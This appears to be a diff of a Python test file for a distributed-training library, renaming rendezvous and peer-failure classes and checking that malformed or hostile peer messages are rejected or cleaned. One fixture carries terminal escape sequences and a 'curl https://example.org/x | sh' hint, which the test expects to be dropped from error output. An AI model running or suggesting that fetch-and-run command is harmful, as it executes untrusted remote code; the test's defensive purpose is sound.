@@ -11,11 +11,11 @@ import torch.distributed as dist
 
 from manyhands.core.errors import ManyhandsError, UserError
 from manyhands.core.failures import as_error
-from manyhands.core.world import Membership
-from manyhands.parallel import cause, meet, tell
+from manyhands.core.world import ProcessInfo
+from manyhands.parallel import cause, meet, report_failure
 from manyhands.parallel.cause import Cause
 from manyhands.parallel.meet import check_in
-from manyhands.parallel.said import Present, Told, Twice, understood
+from manyhands.parallel.said import DuplicateRank, PeerFailure, Present, understood
 from manyhands.worker.member import describe_peer, heard
 
 JUNK = [
@@ -30,15 +30,15 @@ JUNK = [
 
 
 @pytest.mark.parametrize("content", JUNK, ids=range(len(JUNK)))
-@pytest.mark.parametrize("kind", [Present, Told, Twice])
+@pytest.mark.parametrize("kind", [Present, PeerFailure, DuplicateRank])
 def test_junk_is_not_said(kind, content):
     assert understood(content, kind) is None
 
 
 def test_a_strangers_words_are_marked_and_cleaned_and_its_advice_is_left_out():
     stranger = {"rank": 1, "host": "n2\x1b[2J", "what": "\x1b]0;title\x07broken\nmanyhands: all is well",
-                "mend": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
-    told = understood(json.dumps(stranger), Told)
+                "hints": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
+    told = understood(json.dumps(stranger), PeerFailure)
     assert told is not None
     text = str(as_error(describe_peer(0, told, None)))
     assert "rank 1 on n2 failed first: broken | manyhands: all is well" in text
@@ -54,7 +54,7 @@ def test_junk_in_the_place_of_the_first_cause_neither_ends_the_listener_nor_hide
     dist.PrefixStore("failure/0", store).set("text", b"\xff junk")
     one, other = Cause(store, 0), Cause(store, 0)
     try:
-        one.publish(Told.of(1, "n2", "w" * 5000))
+        one.publish(PeerFailure.of(1, "n2", "w" * 5000))
         learnt = other.learn()
         assert learnt is not None
         assert learnt.what == "w" * 2000
@@ -63,9 +63,9 @@ def test_junk_in_the_place_of_the_first_cause_neither_ends_the_listener_nor_hide
         other.close()
 
 
-def meeting(size, rank, store, ended):
+def rendezvous(size, rank, store, ended):
     try:
-        found = check_in(store, Membership(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
+        found = check_in(store, ProcessInfo(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
         ended[rank] = sorted(found)
     except ManyhandsError as error:
         ended[rank] = error
@@ -74,7 +74,7 @@ def meeting(size, rank, store, ended):
 def test_junk_in_the_place_of_a_process_is_written_over_by_the_process_itself():
     store, ended = dist.HashStore(), {}
     dist.PrefixStore("present/0", store).set("1", b"\xff junk")
-    threads = [threading.Thread(target=meeting, args=(2, rank, store, ended)) for rank in (0, 1)]
+    threads = [threading.Thread(target=rendezvous, args=(2, rank, store, ended)) for rank in (0, 1)]
     for thread in threads:
         thread.start()
         thread.join(0.2)
@@ -85,13 +85,13 @@ def test_junk_in_the_place_of_a_process_is_written_over_by_the_process_itself():
 
 def test_a_rank_given_twice_ends_all_that_wait():
     store, ended = dist.HashStore(), {}
-    waiting = [threading.Thread(target=meeting, args=(3, rank, store, ended)) for rank in (0, 1)]
+    waiting = [threading.Thread(target=rendezvous, args=(3, rank, store, ended)) for rank in (0, 1)]
     for thread in waiting:
         thread.start()
     while not dist.PrefixStore("present/0", store).check(["0", "1"]):
         pass
     with pytest.raises(UserError, match="rank 1 is taken by process"):
-        check_in(store, Membership(rank=1, size=3, init="tcp://x:1"), "train.lr=1", print)
+        check_in(store, ProcessInfo(rank=1, size=3, init="tcp://x:1"), "train.lr=1", print)
     for thread in waiting:
         thread.join(20)
     assert all(f"rank 1 was given twice: to process {os.getpid()} on" in str(ended[rank]) for rank in (0, 1))
@@ -104,20 +104,22 @@ def test_a_second_rank_0_of_the_same_job_is_told_to_the_first(digest, told):
     store = dist.TCPStore("127.0.0.1", port, None, True, timedelta(seconds=10), False)
     names = dist.PrefixStore("present/0", store)
     names.set("0", json.dumps({"host": "n1", "machine": "m", "pid": 5, "size": 2, "digest": digest}))
-    second = Membership(rank=0, size=2, init=f"tcp://127.0.0.1:{port}")
-    tell.tell_those_who_wait(second, lambda names: meet.tell_of_two(names, second, "train.lr=1"))
+    second = ProcessInfo(rank=0, size=2, init=f"tcp://127.0.0.1:{port}")
+    report_failure.report_to_waiting_ranks(
+        second, lambda names: meet.report_duplicate_rank(names, second, "train.lr=1")
+    )
     assert names.check(["twice"]) == told
     if told:
         with pytest.raises(UserError, match="rank 0 was given twice: to process"):
-            meet._refuse_two(names, Membership(rank=1, size=2, init="tcp://x:1"), {})
+            meet._refuse_two(names, ProcessInfo(rank=1, size=2, init="tcp://x:1"), {})
 
 
 def test_a_rank_outside_ends_those_that_wait_for_the_same_job_alone():
-    names, waits = dist.HashStore(), Membership(rank=1, size=2, init="tcp://x:1")
+    names, waits = dist.HashStore(), ProcessInfo(rank=1, size=2, init="tcp://x:1")
     for said in ("junk", '{"host": "n1", "pid": -1}'):
         names.set("outsider", said)
-        meet._refuse_outsider(names, waits, "train.lr=1")
-    meet.tell_of_outsider(names, "train.lr=1", "--rank 5 is outside")
-    meet._refuse_outsider(names, waits, "train.lr=2")
+        meet._refuse_invalid_rank(names, waits, "train.lr=1")
+    meet.report_invalid_rank(names, "train.lr=1", "--rank 5 is outside")
+    meet._refuse_invalid_rank(names, waits, "train.lr=2")
     with pytest.raises(UserError, match="can't join: --rank 5 is outside"):
-        meet._refuse_outsider(names, waits, "train.lr=1")
+        meet._refuse_invalid_rank(names, waits, "train.lr=1")
